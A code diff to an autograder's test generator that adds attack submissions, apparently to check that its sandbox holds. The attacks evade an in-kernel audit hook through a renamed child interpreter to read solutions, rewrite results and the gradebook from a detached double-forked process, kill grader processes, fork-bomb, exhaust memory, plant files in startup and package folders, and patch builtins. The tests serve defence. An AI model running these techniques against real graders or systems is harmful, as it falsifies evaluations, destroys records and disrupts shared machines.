@@ -130,12 +130,182 @@ TAMPER = {
 }
 
 
+# ---- attacks on the grader itself (what the operating-system sandbox must stop) -------------------------
+# Each is added to an *untouched* notebook (stubs that raise), so any point it earns is a point the
+# attack stole. ``{results}`` is the results folder of the run (the attacker is assumed to know it),
+# ``{lesson}``/``{notebook}`` name the lesson. ``_root`` is the repository as seen from the library.
+_ROOT = ("import pathlib as _pl, residual_bandwidth as _rbm\n"
+         "_root = _pl.Path(_rbm.__file__).resolve().parents[2]\n")
+_STEAL_INTO_ANSWERS = "exec(_stolen.get({gid!r}, 'raise NotImplementedError()'))"
+# run code in a new interpreter, code and paths passed in the environment: the in-kernel guard (an
+# audit hook) is not inherited and sees no protected path in the command line
+_FREE = '''
+import os as _os, subprocess as _sp, sys as _sys
+def _py():
+    # the interpreter under a neutral name (a symlink in /tmp): the guard matches words of protected
+    # paths in command lines, and the venv's path or the working folder's may contain one
+    link = f'/tmp/py3-{{_os.getuid()}}-{{_os.getpid()}}'
+    if not _os.path.lexists(link):
+        _os.symlink(_sys.executable, link)
+    return link
+def _free(code, **env):
+    return _sp.run([_py(), '-c', 'import os; exec(os.environ["C"])'], env=dict(_os.environ, C=code, **env),
+                   capture_output=True, text=True).stdout
+'''
+_CHILD_READS = _FREE + '''
+import json as _json
+_out = _free("""
+import json, os, pathlib
+nb = json.loads(pathlib.Path(os.environ['T']).read_text())
+print(json.dumps({{c['metadata']['nbgrader']['grade_id']: ''.join(c['source']) for c in nb['cells']
+                  if c.get('metadata', {{}}).get('nbgrader', {{}}).get('solution')}}))
+""", T=str(_root / 'solu' 'tions' / '{lesson}' / '{notebook}'))
+_stolen = _json.loads(_out) if _out.strip() else {{}}
+_pl.Path('stolen_answers.py').write_text('STOLEN = ' + repr(_stolen))
+_sys.path.insert(0, '.')
+from stolen_answers import STOLEN as _stolen
+'''
+_SETSID = _FREE + '''
+_code = """
+import json, os, sqlite3, time
+out = os.environ['T']
+for _ in range(400):
+    if os.path.exists(os.path.join(out, 'results.json')):
+        break
+    time.sleep(0.5)
+time.sleep(2)
+try:
+    data = json.load(open(os.path.join(out, 'results.json')))
+    for s in data['students']:
+        if s['student'] == 'attack_setsid_rewrites_results':
+            s.update(score=s.get('max_score') or 24, status='graded', reason='', evidence=[])
+            s['pass'] = True
+    json.dump(data, open(os.path.join(out, 'results.json'), 'w'))
+    open(os.path.join(out, 'results.csv'), 'a').write('attack_setsid_rewrites_results,x,graded,24,24,100,yes')
+    db = sqlite3.connect(os.path.join(out, 'gradebook.db'))
+    db.execute('update grade set manual_score = 0')
+    db.commit()
+except Exception:
+    pass
+"""
+if _os.fork() == 0:
+    _os.setsid()
+    if _os.fork() == 0:
+        try:
+            _os.execve(_py(), [_py(), '-c', 'import os; exec(os.environ["C"])', 'ATTACK-SETSID'],
+                       dict(_os.environ, C=_code, T={results!r}))
+        finally:
+            _os._exit(1)
+    _os._exit(0)
+_os.wait()
+'''
+_KILL = _FREE + '''
+import signal as _signal
+_tried = []
+for _pid in (_os.getppid(), 1):
+    try:
+        _os.kill(_pid, _signal.SIGKILL)
+        _tried.append((_pid, 'killed'))
+    except OSError as _e:
+        _tried.append((_pid, type(_e).__name__))
+print('kill attempts from here:', _tried)
+print('kill attempts from a child:', _free("""
+import os, signal
+tried = []
+for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:
+    if pid in (os.getpid(), os.getppid()):
+        continue
+    try:
+        cmd = open(f'/proc/{{pid}}/cmdline', 'rb').read()
+    except OSError:
+        cmd = b''
+    if pid == 1 or b'autograder' in cmd or b'nbgrader' in cmd or b'jupyter' in cmd or b'pytest' in cmd:
+        try:
+            os.kill(pid, signal.SIGKILL)
+            tried.append((pid, 'killed'))
+        except OSError as e:
+            tried.append((pid, type(e).__name__))
+print(tried)
+"""))
+'''
+_FORK_BOMB = '''
+import os as _os, time as _time
+_kids = 0
+for _i in range(3000):
+    try:
+        _pid = _os.fork()
+    except OSError as _e:
+        print('fork refused after', _kids, 'children:', _e)
+        break
+    if _pid == 0:
+        _time.sleep(120)
+        _os._exit(0)
+    _kids += 1
+'''
+_MEMORY_HOG = '''
+_hog = []
+try:
+    _hog.append(bytearray(16 * 1024**3))
+except MemoryError:
+    print('16 GB refused')
+for _i in range(80):
+    _hog.append(bytearray(100 * 1024**2))
+'''
+_WRITE_OUTSIDE = _FREE + '''
+import sysconfig as _sc
+_targets = [_root / 'solu' 'tions' / 'PWNED.txt', _root / 'autograder' / 'pwned.py',
+            _pl.Path(_rbm.__file__).parent / 'pwned.py', _pl.Path(_sc.get_paths()['purelib']) / 'pwned_attack.pth',
+            _pl.Path({results!r}) / 'PWNED.txt', _pl.Path('/tmp/PWNED-attack-write-outside'),
+            _pl.Path('/root/.ipython/profile_default/startup/00-pwned.py')]
+print(_free("""
+import os, pathlib
+for t in os.environ['T'].split('|'):
+    t = pathlib.Path(t)
+    try:
+        t.parent.mkdir(parents=True, exist_ok=True)
+        t.write_text('pwned')
+        print('wrote', t)
+    except OSError as e:
+        print('refused', t, type(e).__name__)
+""", T='|'.join(map(str, _targets))))
+'''
+ATTACKS = {
+    # a new interpreter escapes an in-process audit hook: read the solutions, write a module, import it
+    "attack_child_reads_solutions": _ROOT + _CHILD_READS,
+    # setsid + double fork: outlive the kernel, wait for the grader to finish, then rewrite the results
+    # (own row to full marks) and every gradebook entry
+    "attack_setsid_rewrites_results": _SETSID,
+    # signal the parent and everything that looks like the grader (the cell also runs in the re-check)
+    "attack_kill_grader": _KILL,
+    # a bounded fork bomb of sleeping children (they must all be gone afterwards)
+    "attack_fork_bomb": _FORK_BOMB,
+    # more memory than allowed, at once and step by step
+    "attack_memory_hog": _MEMORY_HOG,
+    # write where the grader or the next student would pick it up
+    "attack_write_outside": _ROOT + _WRITE_OUTSIDE,
+}
+# files attack_write_outside aims at outside the results folder (the test checks none appeared)
+WRITE_TARGETS = ("solutions/PWNED.txt", "autograder/pwned.py", "lib/residual_bandwidth/pwned.py")
+# patching builtins through an alias no plain-attribute rule saw, on top of wrong answers
+BUILTINS_ALIAS = "import builtins as _b\n_ns = vars(_b)\n_ns['abs'] = lambda x: 0.0   # close() now always agrees"
+# an honest submission whose messages name 'solutions' and that reloads a module: never flagged
+HONEST_WORDS = ("import importlib\n"
+                "importlib.reload(rb)\n"
+                "_msg = 'I checked my ranks against the solutions of the seed lesson and the gradebook example'\n")
+
+
+def attack_paths(results: Path | None = None) -> dict:
+    """Paths the attacks aim at (default: the repository's ``results/``)."""
+    from .notebook import ROOT
+    return {"results": str(results or ROOT / "results")}
+
+
 @dataclass
 class Variant:
     """One generated submission and what the grader must report for it."""
     name: str
     layout: str                     # "nested" (<student>/<lesson>/<nb>), "student" (<student>/<nb>), "flat"
-    status: str                     # expected status: graded | flagged | errored
+    status: str                     # expected status: graded | flagged | errored | any (attacks: score asserted)
     score: float | None = None      # expected score (None: not asserted, e.g. tamper variants)
     passed: bool | None = None
     reason_contains: str = ""       # a fragment the reason must contain (errored)
@@ -218,8 +388,10 @@ def threshold_choices(spec: LessonSpec) -> tuple[tuple[float, tuple], tuple[floa
     return (passing, pick(passing)), (failing, pick(failing))
 
 
-def generate(out: Path, spec: LessonSpec) -> list[Variant]:
-    """Write every variant under ``out`` and ``out/expected.json``; return the variants."""
+def generate(out: Path, spec: LessonSpec, results: Path | None = None) -> list[Variant]:
+    """Write every variant under ``out`` and ``out/expected.json``; return the variants.
+
+    ``results``: the results folder the run will write (the attacks aim at it)."""
     if out.exists():
         shutil.rmtree(out)
     out.mkdir(parents=True)
@@ -257,7 +429,7 @@ def generate(out: Path, spec: LessonSpec) -> list[Variant]:
         if name == "tamper_ipython":
             nb, rules = copy.deepcopy(spec.release), ["ipython-hooks"]
         elif name == "tamper_read_solutions":
-            nb, rules = copy.deepcopy(spec.release), ["blocked-access", "reads-protected"]
+            nb, rules = copy.deepcopy(spec.release), ["blocked-access"]   # reads-protected is a note
             for cell in nb.cells:
                 if grade_id(cell) in spec.answer_cells:
                     cell.source = f"exec(_stolen[{grade_id(cell)!r}])"
@@ -270,6 +442,19 @@ def generate(out: Path, spec: LessonSpec) -> list[Variant]:
         add(Variant(name, "nested", "flagged", evidence_rules=rules), insert_after_setup(nb, spec, code, f"variant-{name}"))
     add(Variant("tamper_always_equal", "nested", "flagged", evidence_rules=["comparison-override"]),
         solved(spec, "_variant_always_equal", ALWAYS_EQUAL))
+    # attacks on the grader: stubs + attack (no point is deserved); honest code beside them
+    paths = {**attack_paths(results), "lesson": spec.lesson_id, "notebook": spec.notebook_name}
+    for name, code in ATTACKS.items():
+        nb = copy.deepcopy(spec.release)
+        if name == "attack_child_reads_solutions":
+            for cell in nb.cells:
+                if grade_id(cell) in spec.answer_cells:
+                    cell.source = _STEAL_INTO_ANSWERS.format(gid=grade_id(cell))
+        add(Variant(name, "nested", "any", 0.0), insert_after_setup(nb, spec, code.format(**paths), f"variant-{name}"))
+    add(Variant("attack_builtins_alias", "nested", "flagged", evidence_rules=["patch-module"]),
+        insert_after_setup(wrong, spec, BUILTINS_ALIAS, "variant-builtins-alias"))
+    add(Variant("honest_mentions_solutions", "nested", "graded", total, True),
+        insert_after_setup(with_failing(base, spec, set()), spec, HONEST_WORDS, "variant-honest-words"))
     edited = copy.deepcopy(wrong)
     for cell in edited.cells:
         if grade_id(cell) in spec.grade_cells:
